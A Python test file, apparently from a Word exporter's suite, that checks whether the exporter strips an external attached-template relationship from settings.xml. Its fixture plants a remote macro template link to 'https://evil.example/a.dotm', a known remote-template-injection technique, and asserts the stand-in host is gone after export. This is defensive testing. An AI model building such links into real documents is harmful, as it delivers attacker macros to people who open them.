"""The company's settings, but for what leads to other files."""

import re
from pathlib import Path

from tests.exporters.word.company.filled import (
    made,
)
from tests.exporters.word.templates import (
    entry,
    rewritten,
)


def test_what_leads_to_other_files_goes(tmp_path: Path, plain_template: bytes) -> None:
    """A template of the template would be fetched whenever the document is opened."""
    name = "word/settings.xml"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="https://evil.example/a.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    attached = (
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId1"/>'
    )
    settings = re.sub(rb"(<w:settings[^>]*>)", rb"\1" + attached.encode(), entry(plain_template, name))
    file = made(
        tmp_path,
        rewritten(plain_template, {name: settings, "word/_rels/settings.xml.rels": rels.encode()}),
    )
    assert all(b"evil.example" not in part for part in file.parts.values())
